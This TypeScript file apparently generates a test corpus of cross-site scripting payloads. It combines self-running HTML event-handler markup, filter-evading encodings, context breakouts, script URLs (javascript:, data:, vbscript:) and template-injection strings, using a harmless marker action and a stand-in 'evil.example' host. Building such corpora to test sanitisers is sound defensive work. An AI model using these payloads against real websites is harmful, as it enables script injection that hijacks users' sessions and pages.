import { payloads } from "./payloads.ts";

const run = "window.ran=1";

/** Markup that runs by itself, by the element and the handler that would do it; `%` stands for what is run. */
const elements: readonly string[] = [
  "<img src=x onerror=%>",
  "<svg onload=%>",
  "<body onload=%>",
  "<iframe onload=%>",
  "<video src=x onerror=%>",
  "<audio src=x onerror=%>",
  "<video><source src=x onerror=%></video>",
  "<input autofocus onfocus=%>",
  "<select autofocus onfocus=%></select>",
  "<textarea autofocus onfocus=%></textarea>",
  "<details open ontoggle=%>",
  "<object data=x onerror=%>",
  "<svg><animate onbegin=% attributeName=x dur=1s>",
  "<svg><set onbegin=% attributeName=x>",
  "<style onload=%></style>",
  "<link rel=stylesheet href=x onerror=%>",
  "<script src=x onerror=%></script>",
  "<input type=image src=x onerror=%>",
  "<p tabindex=1 autofocus onfocus=%>",
  "<xss style=animation-name:x onanimationstart=%>",
];

/** How the same is written so that a filter does not know it, or that what was run is not read by it. */
const encodings: Readonly<Record<string, (markup: string) => string>> = {
  plain: (markup) => markup.replace("%", `"${run}"`),
  "in capitals": (markup) =>
    markup.replace(/<[a-z]+| on[a-z]+/g, (part) => part.toUpperCase()).replace("%", `"${run}"`),
  "with a slash": (markup) => markup.replace(" ", "/").replace("%", run),
  "with a tab": (markup) => markup.replaceAll(" ", "\t").replace("%", `'${run}'`),
  "with line ends": (markup) => markup.replaceAll(" ", "\n").replace("%", `"${run}"`),
  "with a form feed": (markup) => markup.replace(" ", "\f").replace("%", run),
  "as decimal entities": (markup) =>
    markup.replace("%", [...run].map((one) => `&#${one.charCodeAt(0)};`).join("")),
  "as hexadecimal entities": (markup) => markup.replace("%", `&#x77;indow&#46;ran&equals;1`),
  "with a script's escapes": (markup) => markup.replace("%", "\\u0077indow.ran=1"),
  "by its name in parts": (markup) => markup.replace("%", `"top['ra'+'n']=self['ra'+'n']=1"`),
};

/** What a text stands in when it breaks out: an attribute, another element, a comment, JSON inside a script. */
const contexts: readonly string[] = [
  "",
  `">`,
  `'>`,
  "</textarea>",
  "</title></style>",
  "</script>",
  "-->",
  "]]>",
  `\\"}]);</script>`,
  "</noscript></template>",
];

/** Every element in every encoding, each pair breaking out of another place. */
const generated = elements.flatMap((markup, row) =>
  Object.values(encodings).map(
    (encode, column) => `${contexts[(row + column) % contexts.length]}${encode(markup)}`,
  ),
);

/** Addresses that are scripts, as links and as what a page would take for one. */
const addresses = [
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `\u0001javascript:${run}`,
  `javascript&colon;${run}`,
  `javascript://%0a${run}`,
  "data:text/html,<script>parent.ran=1</script>",
  "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuPTE8L3NjcmlwdD4=",
  `vbscript:${run}`,
  `//evil.example/%2f..`,
].flatMap((address) => [address, `<a href="${address}">receipt</a>`, `<iframe src="${address}"></iframe>`]);

/** What templates of servers and of scripts would calculate. */
const templates = [
  "$".concat("{window.ran=1}"),
  "#{window.ran=1}",
  "<%= window.ran=1 %>",
  "{{window.ran=1}}",
  "`-(window.ran=1)-`",
  "'-(window.ran=1)-'",
  '"-(window.ran=1)-"',
  "\u2029window.ran=1//",
];

/** Written by hand and by class, each once. */
export const everyPayload: readonly string[] = [
  ...new Set([...payloads, ...generated, ...addresses, ...templates]),
];
